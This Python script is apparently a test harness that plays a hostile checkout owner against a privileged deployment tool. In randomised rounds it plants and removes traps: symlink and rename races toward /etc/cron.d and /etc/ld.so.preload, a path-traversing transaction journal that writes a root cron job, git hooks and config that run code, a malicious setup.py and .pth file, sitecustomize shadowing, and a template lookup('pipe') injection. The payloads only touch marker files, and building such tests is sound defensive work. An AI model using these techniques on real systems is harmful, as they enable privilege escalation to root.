# SPDX-License-Identifier: GPL-3.0-or-later
"""The owner of a checkout, who wants to be root: all kinds of traps, set and taken away without an end.

usage: enemy.py CHECKOUT [calm|kinds]

With the word calm, those traps alone are set with which a run gets through, and they stay. Otherwise, each
round sets one or two, and all kinds have their turn before the first one has its second: ~/.enemy/rounds.
With the word kinds, it says how many kinds there are.
"""

from __future__ import annotations

import contextlib
import ctypes
import hashlib
import json
import os
import random
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager as Trap
from pathlib import Path

TOP = Path(sys.argv[1])
#: Whoever runs this, writes down who that is.
NOTES = "with contextlib.suppress(OSError): open('/opt/ran', 'a').write('%d {name}\\\\n' % os.geteuid())"
RUNS = f'import contextlib, os; exec("{NOTES}")\n'
CHANCE = random.SystemRandom()
KEPT = Path.home() / ".enemy"
_AT_FDCWD, _RENAME_EXCHANGE = -100, 2
renameat2 = ctypes.CDLL(None).renameat2


def exchange(one: Path, other: Path) -> None:
    """Have each of two names stand for what the other one stood for, in no time (renameat2(2))."""
    renameat2(_AT_FDCWD, os.fsencode(one), _AT_FDCWD, os.fsencode(other), _RENAME_EXCHANGE)


@contextlib.contextmanager
def exchanged(name: str, target: str) -> Iterator[None]:
    """Have a link in the place of a file or folder in turns, as fast as it gets."""
    link = TOP / f".{name.replace('/', '-')}.other"
    link.unlink(missing_ok=True)
    link.symlink_to(target)
    racer = os.fork()
    if racer == 0:
        signal.signal(signal.SIGTERM, lambda *_given: os._exit(0))
        while True:
            exchange(TOP / name, link)
            time.sleep(CHANCE.choice((0, 0, 0.0001, 0.002)))
    try:
        yield
    finally:
        os.kill(racer, signal.SIGTERM)
        os.waitpid(racer, 0)
        if (TOP / name).is_symlink():
            exchange(TOP / name, link)
        if link.is_symlink():
            link.unlink()


@contextlib.contextmanager
def added(name: str, text: str, mode: int = 0o644) -> Iterator[None]:
    """Have a file for a while."""
    path = TOP / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(mode)
    yield
    path.unlink(missing_ok=True)


@contextlib.contextmanager
def edited(name: str, text: str) -> Iterator[None]:
    """Have lines at the end of a file for a while."""
    with (TOP / name).open("a") as file:
        file.write(text)
    yield
    path = TOP / name
    path.write_text(path.read_text().replace(text, ""))


@contextlib.contextmanager
def journal() -> Iterator[None]:
    """A plan that root is to carry out."""
    place = TOP / ".celeriac-transaction"
    with contextlib.suppress(FileExistsError):
        place.mkdir(mode=0o700)
    (place / "0").write_text("* * * * * root touch /opt/pwned\n")
    entry = {
        "name": "../../etc/cron.d/evil",
        "place": "../../etc/cron.d/evil",
        "copy": "0",
        "temporary": "x.celeriac-new",
    }
    (place / "plan.json").write_text(json.dumps({"files": [entry], "folders": [], "emptied": ["../../etc"]}))
    yield
    shutil.rmtree(place, ignore_errors=True)  # root may be in there at the same time


@contextlib.contextmanager
def record() -> Iterator[None]:
    """A record that names files of the host."""
    digest = hashlib.sha256(Path("/etc/hosts").read_bytes()).hexdigest()
    path = TOP / "shop/celery_ops/integration.json"
    before = path.read_bytes() if path.exists() else None
    path.parent.mkdir(exist_ok=True)
    path.write_text(json.dumps({"name": "shop", "made": {"../../etc/hosts": digest}, "edited": {}}))
    yield
    if before is not None:
        path.write_bytes(before)
    else:
        shutil.rmtree(path.parent, ignore_errors=True)  # root may be in there at the same time


@contextlib.contextmanager
def repository(*more: str) -> Iterator[None]:
    """A repository that names programs, and has hooks."""
    program = TOP / ".git/program"
    program.write_text("#!/bin/sh\necho $(id -u) git >>/opt/ran\n")
    program.chmod(0o755)
    hooks = [TOP / ".git/hooks" / name for name in ("post-index-change", "fsmonitor-watchman", "pre-commit")]
    for hook in hooks:
        shutil.copy(program, hook)
    before = (TOP / ".git/config").read_text()
    names = ("core.fsmonitor", "core.sshCommand", "core.pager", "core.editor", "diff.external")
    settings = dict.fromkeys((*names, "filter.evil.clean", "filter.evil.process"), str(program))
    settings |= {
        "remote.origin.promisor": "true",
        "extensions.partialClone": "origin",
        "remote.origin.url": f"ext::{program}",
        "protocol.ext.allow": "always",
    }
    settings |= dict.fromkeys(more, "/root/shadow")
    for name, value in settings.items():
        subprocess.run(["git", "-C", str(TOP), "config", name, value], check=False, capture_output=True)
    with added(".gitattributes", "* filter=evil diff=evil\n"):
        yield
    (TOP / ".git/config").write_text(before)
    for hook in hooks:
        hook.unlink()


@contextlib.contextmanager
def package() -> Iterator[None]:
    """A requirement whose installation is code, and whose package runs with each Python."""
    there = TOP / "vendor/evil"
    (there / "evil").mkdir(parents=True, exist_ok=True)
    (there / "evil/__init__.py").touch()
    (there / "evil.pth").write_text(RUNS.format(name="pth"))
    (there / "setup.py").write_text(
        RUNS.format(name="setup.py")
        + "import sys\nfrom setuptools import setup\n"
        + "place = 'lib/python%d.%d/site-packages' % sys.version_info[:2]\n"
        + "setup(name='evil', version='1.0', packages=['evil'], data_files=[(place, ['evil.pth'])])\n"
    )
    with edited("requirements.txt", f"evil @ file://{there}\n"):
        yield
    shutil.rmtree(TOP / "vendor", ignore_errors=True)  # root may be in there at the same time


@contextlib.contextmanager
def strange_names() -> Iterator[None]:
    """Names that would be directives, and bytes that are no text."""
    lines = TOP / "web\nExecStartPre=+touch pwned\nX="
    lines.mkdir(exist_ok=True)
    (lines / "__init__.py").touch()
    bytes_of = Path(os.fsdecode(os.fsencode(TOP) + b"/caf\xe9.py"))
    bytes_of.touch()
    yield
    shutil.rmtree(lines)
    bytes_of.unlink()


@contextlib.contextmanager
def links() -> Iterator[None]:
    """What is root's alone, and what does not end when it is read."""
    targets = {"zero.py": "/dev/zero", "shadow.py": "/root/shadow", "static": "/etc", "loop": "loop"}
    for name, target in targets.items():
        with contextlib.suppress(FileExistsError):
            (TOP / name).symlink_to(target)
    for target in ("/etc/passwd", "/root/shadow"):
        with contextlib.suppress(OSError):
            os.link(target, TOP / "hard.py")
    yield
    for name in (*targets, "hard.py"):
        (TOP / name).unlink(missing_ok=True)


@contextlib.contextmanager
def state() -> Iterator[None]:
    """A link where a deployment without root has its state."""
    (TOP / ".celery").symlink_to("/etc")
    yield
    (TOP / ".celery").unlink()


@contextlib.contextmanager
def pipe(name: str) -> Iterator[None]:
    """A pipe, which nobody writes to, in the place of a file."""
    other = TOP / ".pipe"
    other.unlink(missing_ok=True)
    os.mkfifo(other)
    is_new = not (TOP / name).exists()
    if is_new:
        other.rename(TOP / name)
    else:
        exchange(TOP / name, other)
    yield
    if is_new:
        (TOP / name).unlink()
    else:
        exchange(TOP / name, other)
        other.unlink()


@contextlib.contextmanager
def huge(name: str) -> Iterator[None]:
    """A file of a terabyte, of which the disk has nothing."""
    with (TOP / name).open("wb") as file:
        file.truncate(1 << 40)
    yield
    (TOP / name).unlink()


@contextlib.contextmanager
def deep() -> Iterator[None]:
    """More folders below each other than a path can name."""
    here = os.open(TOP, os.O_DIRECTORY)
    for _level in range(1200):
        with contextlib.suppress(FileExistsError):
            os.mkdir("deeper", dir_fd=here)
        below = os.open("deeper", os.O_DIRECTORY, dir_fd=here)
        os.close(here)
        here = below
    os.close(here)
    yield
    subprocess.run(["rm", "-rf", str(TOP / "deeper")], check=True)


@contextlib.contextmanager
def locks() -> Iterator[None]:
    """Links where locks and new files are made."""
    names = (".celeriac-lock", "shop/celery.py.celeriac-new", "shop/__init__.py.celeriac-new")
    for name in names:
        (TOP / name).unlink(missing_ok=True)
        (TOP / name).symlink_to("/etc/cron.d/evil")
    yield
    for name in names:
        if (TOP / name).is_symlink():
            (TOP / name).unlink()


EXPRESSION = "import os\nX = os.environ.get(\"x') }}{{ lookup('pipe', 'touch /opt/pwned') }}\")\n"
TRAPS: dict[str, Callable[[], Trap[None]]] = {
    "journal": journal,
    "record": record,
    "repository": repository,
    "repository elsewhere": lambda: repository("include.path", "core.worktree", "core.excludesFile"),
    "package": package,
    "names": strange_names,
    "links": links,
    "state": state,
    "locks": locks,
    "deep": deep,
    "pipe in a file's place": lambda: pipe("requirements.txt"),
    "pipe": lambda: pipe("orders/pipe.py"),
    "huge": lambda: huge("orders/tables.py"),
    "huge lock": lambda: huge("uv.lock"),
    "module": lambda: added("importlib.py", RUNS.format(name="importlib")),
    "sitecustomize": lambda: added("sitecustomize.py", RUNS.format(name="sitecustomize")),
    "uv.toml": lambda: added("uv.toml", 'index-url = "http://127.0.0.1:9/"\n'),
    "pip.conf": lambda: added("pip.conf", "[global]\nindex-url = http://127.0.0.1:9/\n"),
    "included": lambda: edited("requirements.txt", "-r /root/shadow\n"),
    "settings": lambda: edited("shop/settings/base.py", RUNS.format(name="settings")),
    "expression": lambda: edited("shop/settings/base.py", EXPRESSION),
    "syntax": lambda: edited("shop/settings/base.py", "def (\n"),
    "requirements.txt": lambda: exchanged("requirements.txt", "/etc/cron.d/evil"),
    ".gitignore": lambda: exchanged(".gitignore", "/etc/profile"),
    "base.py": lambda: exchanged("shop/settings/base.py", "/root/shadow"),
    "__init__.py": lambda: exchanged("shop/__init__.py", "/etc/ld.so.preload"),
    "manage.py": lambda: exchanged("manage.py", "/usr/bin/env"),
    "shop": lambda: exchanged("shop", "/etc"),
    "orders": lambda: exchanged("orders", "/usr/lib/python3"),
}
#: What a run gets through, so that the code gets to where it can run.
CALM = ("package", "repository", "sitecustomize", "settings", "pip.conf", "uv.toml", "pipe")


def rounds() -> Iterator[list[str]]:
    """Yield the names of the next traps, at random, and all before any comes again."""
    while True:
        names = CHANCE.sample(sorted(TRAPS), len(TRAPS))
        while names:
            yield [names.pop() for _trap in range(min(len(names), CHANCE.choice((1, 1, 2))))]


def main() -> None:
    """Set a few traps, wait a bit, take them away, and so on."""
    if sys.argv[2:] == ["kinds"]:
        print(len(TRAPS))
        return
    KEPT.mkdir(exist_ok=True)
    if sys.argv[2:] == ["calm"]:
        calm = contextlib.ExitStack()
        for name in CALM:
            calm.enter_context(TRAPS[name]())
        os._exit(0)
    for names in rounds():
        # The playbooks change the same files, so a trap may fail; what it has begun is undone all the same.
        with contextlib.suppress(OSError), contextlib.ExitStack() as traps:
            for name in names:
                traps.enter_context(TRAPS[name]())
                with (KEPT / "rounds").open("a") as notes:
                    notes.write(f"{name}\n")
            time.sleep(CHANCE.uniform(0.5, 3))


if __name__ == "__main__":
    main()
